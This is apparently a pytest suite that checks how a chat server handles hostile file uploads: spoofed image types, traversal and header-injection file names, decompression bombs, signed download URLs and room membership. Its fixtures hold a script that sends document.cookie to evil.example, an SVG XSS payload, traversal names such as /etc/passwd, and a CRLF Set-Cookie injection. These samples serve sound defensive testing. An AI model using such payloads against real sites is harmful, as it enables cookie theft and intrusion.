"""Files of messages by people who mean ill: what they are called, what they say they are, what they cost, who gets them."""

import re
import urllib.parse

import pytest

import expect
import media
from clients import Api
from harness import soon
from pictures import chunk, halves, png, written
from raw import Connection
from test_files import begin, names_on_disk, plain, posted, send, sent

PNG = written(halves(), "PNG")
PAGE = b"<!DOCTYPE html><script>fetch('//evil.example/' + document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@pytest.fixture
def room(api, alice, bob):
    return api.room(alice, bob)


def all_paths(folder):
    return {str(path.relative_to(folder)) for path in folder.rglob("*") if path.parts[-2] != "files"}


@pytest.mark.parametrize("name", [
    "../../../../tmp/evil", "..\\..\\evil", "/etc/passwd", "C:\\evil.exe", ".", "..", "files/../../parley.db",
    'a"; filename="b.html', "a\r\nSet-Cookie: evil=1\r\n\r\n", "picture\u202egpj.exe", "a\tb", "%2e%2e%2f", "x" * 255,
    "😀" * 255])
def test_a_name_is_a_word_and_no_path(server, api, alice, room, name):
    before = all_paths(server.data_dir)
    file = sent(api, alice, room, name=name)
    assert file["name"] == name
    assert all_paths(server.data_dir) == before, "it lies in the folder of files, under a name of the server's"
    assert all(set(one) <= set("0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ-_.") and one[0] != "."
               for one in names_on_disk(server))
    answer = plain(server, file["url"])
    field = answer.headers["content-disposition"]
    assert "set-cookie" not in answer.headers
    parts = re.fullmatch(r"attachment; filename=\"([^\"\\]+)\"; filename\*=UTF-8''([\w.%!#$&+^`|~-]+)", field, re.ASCII)
    assert parts and parts[1].isprintable(), field
    told = urllib.parse.unquote(parts[2])
    assert not set(told) & set("/\\\r\n\t"), "a browser saves it where its user says"


@pytest.mark.parametrize("name, field", [("%00", "query"), ("a%00.png", "query"), ("%ff", "query"), ("%E2%80%8B", "name"),
                                         ("", "name")])
def test_a_name_that_is_no_text_is_refused(server, api, alice, room, name, field):
    before = names_on_disk(server)
    answer = api.post(f"/rooms/{room}/files?name={name}", user=alice, content=b"x")
    expect.problem(answer, 422, "validation_failed", field)
    assert names_on_disk(server) == before


def test_an_upload_is_called_no_better(api, alice, room):
    for name, field in (("a\0b", "Upload-Metadata"), ("\u200b", "name"), ("", "name")):
        expect.problem(begin(api, alice, room, 3, name=name), 422, "validation_failed", field)


@pytest.mark.parametrize("content", [PAGE, SVG, b"GIF89a" + PAGE, b"\xff\xd8\xff" + PAGE, PNG[:40] + PAGE])
@pytest.mark.parametrize("kind", ["image/png", "image/jpeg", "image/gif", "image/webp", "IMAGE/PNG; x=y"])
def test_a_page_that_says_it_is_a_picture_is_refused(server, api, alice, room, content, kind):
    before = names_on_disk(server)
    expect.problem(send(api, alice, room, content, name="x.png", kind=kind), 422, "bad_image", "body")
    soon(lambda: names_on_disk(server) == before)


@pytest.mark.parametrize("content, kind", [(PAGE, "text/html"), (SVG, "image/svg+xml"), (PAGE, "text/plain"),
                                           (PAGE, "application/pdf"), (PAGE, "video/mp4"), (SVG, "text/xml")])
def test_what_could_run_is_saved_and_not_shown(server, api, alice, room, content, kind):
    file = sent(api, alice, room, content, name="x.html", kind=kind)
    assert (file["content_type"], file["width"], file["thumbnail_url"]) == (kind, None, None)
    answer = plain(server, file["url"])
    assert answer.headers["content-disposition"].startswith("attachment")
    assert answer.headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_a_picture_with_a_page_behind_it_is_shown_as_a_picture_alone(server, api, alice, room):
    file = sent(api, alice, room, PNG + PAGE, name="x.html", kind="text/html")
    answer = plain(server, file["url"])
    assert answer.headers["content-type"] == "image/png" and answer.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in answer.headers["content-security-policy"]
    assert PAGE not in plain(server, file["thumbnail_url"]).content


def test_headers_that_a_type_would_bring_along_are_dropped(server, api, alice, room):
    for kind in ("text/html;charset=utf-7", "text/x html", "a" * 200 + "/b", "multipart/x-mixed-replace;boundary=x"):
        file = sent(api, alice, room, PAGE, kind=kind)
        assert ";" not in file["content_type"] and len(file["content_type"]) <= 127
        assert plain(server, file["url"]).headers["content-type"] == file["content_type"]


def test_a_bomb_costs_no_memory(server, api, alice, room):
    huge = png(60_000, 60_000, b"\0" * 1000)
    scans = written(halves((64, 64)), "GIF").replace(b"\x40\x00\x40\x00", b"\xff\xff\xff\xff")
    before = media.resident(server)
    for bomb, kind in ((huge, "image/png"), (scans, "image/gif")):
        expect.problem(send(api, alice, room, bomb, kind=kind), 422, "bad_image", "body")
        assert sent(api, alice, room, bomb, kind="text/plain")["width"] is None
    assert media.resident(server) < before + 64 * 1024 * 1024


def test_text_that_is_packed_in_a_picture_is_not_unpacked(server, api, alice, room):
    zipped = chunk(b"zTXt", b"k\0\0" + b"\x78\x9c" + b"\0" * 1000)
    picture = PNG[:33] + zipped + PNG[33:]
    file = sent(api, alice, room, picture, kind="image/png")
    assert zipped not in plain(server, file["thumbnail_url"]).content


def test_a_body_that_is_cut_off_leaves_nothing(server, api, alice, room):
    before = names_on_disk(server)
    with Connection(server) as wire:
        wire.request(f"POST /rooms/{room}/files?name=x HTTP/1.1", f"Authorization: Bearer {alice.token}",
                     "Content-Type: text/plain", "Content-Length: 1000", body=b"half")
        soon(lambda: len(names_on_disk(server)) == len(before) + 1)
    soon(lambda: names_on_disk(server) == before)


def test_chunks_are_counted_as_they_come(start_server):
    server = start_server({"limits.file_bytes": 4096})
    with Api(server) as api:
        user = api.register()
        room = api.room(user)
        refused = api.post(f"/rooms/{room}/files?name=x", user=user, content=(b"x" * 1000 for _ in range(100)))
        expect.problem(refused, 413, "file_too_large")
        soon(lambda: names_on_disk(server) == [])


def test_an_address_is_good_for_one_thing(server, api, alice, bob, room):
    one, other = (sent(api, alice, room, PNG, kind="image/png") for _ in range(2))
    posted(api, alice, room, one["id"], other["id"])
    for wrong in (one["url"].replace("/content", "/thumbnail"), one["thumbnail_url"].replace("/thumbnail", "/content"),
                  one["url"].replace(f"/{one['id']}/", f"/{other['id']}/"), one["url"].split("?")[0],
                  one["url"].replace("expires=", "expires=1"), one["url"] + "0"):
        assert plain(server, wrong).status_code == 401, wrong
    path = one["url"].split("?")[0]
    assert api.get(path, user=bob).status_code == 200
    assert api.delete(f"/rooms/{room}/members/{bob.id}", user=alice).status_code == 204
    for what in (path, one["thumbnail_url"].split("?")[0]):
        expect.problem(api.get(what, user=bob), 403, "not_a_member")


def test_files_of_rooms_that_one_is_not_in_cannot_be_told_from_none(api, alice, carol, room):
    hidden = sent(api, alice, room)
    own_room = api.room(carol)
    for number in (hidden["id"], 1 << 40):
        answer = api.post(f"/rooms/{own_room}/messages/", user=carol, json={"content": "", "attachments": [number]})
        expect.problem(answer, 404, "file_not_found")


async def test_a_guest_sees_what_is_said_and_can_send_no_file(server, api, sockets, alice):
    room = api.room(alice, allow_guests=True)
    guest = await sockets.chat(room)
    file = sent(api, alice, room, PNG, kind="image/png")
    posted(api, alice, room, file["id"])
    heard = (await guest.until("chat_message"))["message"]
    assert plain(server, heard["attachments"][0]["url"]).content == PNG
    expect.problem(api.post(f"/rooms/{room}/files?name=x", content=b"x"), 401, "auth_required")
    waiting = sent(api, alice, room)
    await guest.tell("chat_message", content="mine", attachments=[waiting["id"]])
    expect.chat_error(await guest.until("error"), "file_not_found")


def test_a_muted_member_s_file_reaches_nobody(api, alice, bob, room):
    assert api.put(f"/rooms/{room}/members/{bob.id}", user=alice,
                   json={"muted_until": "2099-01-01T00:00:00.000Z"}).status_code == 200
    file = sent(api, bob, room)
    answer = api.post(f"/rooms/{room}/messages/", user=bob, json={"content": "", "attachments": [file["id"]]})
    expect.problem(answer, 403, "muted")
    expect.problem(api.get(f"/files/{file['id']}/content", user=alice), 404, "file_not_found")


def test_conditions_are_those_of_other_bytes(server, api, alice, room):
    file = sent(api, alice, room, b"0123456789")
    tag = plain(server, file["url"]).headers["etag"]
    assert plain(server, file["url"], **{"If-None-Match": tag}).status_code == 304
    assert plain(server, file["url"], Range="bytes=5-", **{"If-Range": tag}).content == b"56789"
    assert plain(server, file["url"], Range="bytes=5-", **{"If-Range": '"other"'}).content == b"0123456789"
    assert plain(server, file["url"], Range="bytes=10-").status_code == 416
